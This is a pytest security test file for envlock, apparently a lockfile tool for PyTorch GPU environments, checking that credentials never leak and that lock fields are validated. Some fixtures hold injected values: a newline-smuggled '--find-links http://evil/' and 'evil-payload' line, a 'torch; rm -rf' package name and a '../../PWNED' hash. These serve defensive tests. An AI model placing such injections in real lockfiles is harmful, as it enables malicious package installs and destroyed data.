"""Issue 18 items 2 and 5: credentials never reach a lock, an export, a message or
``--json``; a lock's fields are validated on read and escaped when rendered."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from envlock.export import export
from envlock.lock.io import parse_lock, render_lock
from tests.security.cli_run import assert_contract, run_cli
from tests.security.documents import DATA, FORMATS, LOCK

SECRET = "S3CRETpw"


@pytest.fixture
def empty_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    d = tmp_path / "cache"
    monkeypatch.setenv("ENVLOCK_CACHE_DIR", str(d))
    return d


def test_resolve_writes_no_credentials(tmp_path: Path, empty_cache: Path,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ENVLOCK_PYTORCH_INDEX_URL", f"https://me:{SECRET}@torch.example/whl")
    out = tmp_path / "envlock.lock"
    argv = ["resolve", "--gpu", "H100 SXM", "--offline", "--index-url",
            f"http://user:{SECRET}@host.example/simple", "--extra-index-url",
            f"https://tok{SECRET}@extra.example/simple", "--env",
            f"TORCH_MODEL_URL=https://a:{SECRET}@m.example/", "-o", str(out), "--json"]
    r = run_cli(argv)
    assert r.code == 0, r.stderr
    text = out.read_text()
    assert SECRET not in text and SECRET not in r.stdout and SECRET not in r.stderr
    assert "http://host.example/simple" in text
    lock = parse_lock(text)
    assert lock.inputs["pytorch-index"] == "https://torch.example/whl"
    json.loads(r.stdout)
    # --pytorch-index-url given on the command line
    argv = ["resolve", "--gpu", "H100 SXM", "--offline", "--pytorch-index-url",
            f"https://me:{SECRET}@torch.example/whl", "-o", str(out)]
    r = run_cli(argv)
    assert r.code == 0, r.stderr
    assert SECRET not in out.read_text() and SECRET not in r.stdout + r.stderr


def test_messages_never_echo_credentials(empty_cache: Path) -> None:
    for url in (f"http://user:{SECRET}@host.example:99999/simple",
                f"http://user:{SECRET}@[::1/simple", f"ftp://u:{SECRET}@x/"):
        # exit codes for malformed index URLs belong to the index client (issue 18 item 9);
        # here: whatever the outcome, the credential is never printed
        r = run_cli(["resolve", "--gpu", "H100 SXM", "--index-url", url, "--dry-run"])
        assert r.code != 0
        assert SECRET not in r.stdout + r.stderr, (url, r.stderr)


@pytest.mark.parametrize("fmt", FORMATS)
def test_exports_carry_no_credentials(fmt: str) -> None:
    text = LOCK.read_text().replace("https://pypi-mirror.example.com/",
                                    f"https://user:{SECRET}@pypi-mirror.example.com/")
    text = text.replace("https://download.pytorch.org/",
                        f"https://{SECRET}@download.pytorch.org/")
    assert text.count(SECRET) > 5
    lock = parse_lock(text)
    got = export(lock, fmt, lock_path="envlock.lock", target="h20").text
    assert SECRET not in got
    assert "pypi-mirror.example.com" in got or fmt == "dockerfile"
    assert SECRET not in render_lock(lock)


def test_a_lock_with_a_newline_in_a_string_is_refused(tmp_path: Path) -> None:
    text = LOCK.read_text().replace(
        'command = "envlock resolve',
        'command = "x\\n--find-links http://evil/\\nevil-payload==1.0 envlock resolve', 1)
    path = tmp_path / "bad.lock"
    path.write_text(text)
    argv = ["export", "--lock", str(path), "--format", "requirements", "--target", "h20"]
    r = run_cli(argv)
    assert r.code == 2
    assert r.stderr == (f"envlock: error: {path}: command: control character \\n in a "
                        f"string\n")


@pytest.mark.parametrize("old,new,where", [
    ('version = "2.5.1+cu121"', 'version = "not-a-version"', "version"),
    ('name = "torch"', 'name = "torch; rm -rf"', "name"),
    ("sha256 = \"", "sha256 = \"../../PWNED", "sha256"),
])
def test_lock_fields_are_validated_on_read(tmp_path: Path, old: str, new: str,
                                           where: str) -> None:
    text = LOCK.read_text()
    assert old in text
    path = tmp_path / "bad.lock"
    path.write_text(text.replace(old, new, 1))
    argv = ["export", "--lock", str(path), "--format", "requirements", "--target", "h20"]
    r = run_cli(argv)
    assert r.code == 2, r.stderr
    assert_contract(r, argv)
    assert f"{where}: " in r.stderr and "target[" in r.stderr


def test_deeply_nested_lock_is_an_input_error(tmp_path: Path) -> None:
    path = tmp_path / "deep.lock"
    path.write_text("version = 1\nx = " + "[" * 5000 + "]" * 5000 + "\n")
    r = run_cli(["verify", "--lock", str(path)])
    assert r.code == 2 and len(r.stderr.splitlines()) == 1, r.stderr


@pytest.mark.parametrize("fmt", FORMATS)
def test_control_characters_in_an_in_memory_lock_are_escaped(fmt: str) -> None:
    lock = parse_lock(LOCK.read_text())
    evil = "x\n--find-links http://evil/\nevil-payload==1.0 --hash=sha256:" + "0" * 64
    lock = dataclasses.replace(lock, command=evil, targets=tuple(
        dataclasses.replace(t, decision=(evil,)) for t in lock.targets))
    got = export(lock, fmt, lock_path="envlock.lock", target="h20").text
    for line in got.splitlines():
        assert not line.startswith(("--find-links", "evil-payload")), line
    assert "\\n--find-links" in got
    rendered = render_lock(lock)
    assert not any(ln.startswith("--find-links") for ln in rendered.splitlines())
    assert parse_lock(rendered).command.startswith("x\\n--find-links")




def test_every_lock_resolve_writes_passes_validation(tmp_path: Path, empty_cache: Path) -> None:
    """Validation on read must accept what envlock itself writes (joint targets, GPU-core
    range pins without versions)."""
    out = tmp_path / "joint.lock"
    r = run_cli(["resolve", "--gpu", "H100 SXM", "--gpu", "H20", "--together", "--offline",
                 "-o", str(out)])
    assert r.code == 0, r.stderr
    lock = parse_lock(out.read_text())
    assert [t.name for t in lock.targets] == ["h100-sxm+h20"]
    for path in sorted((DATA / "locks").glob("*.lock")):
        parse_lock(path.read_text(), origin=str(path))
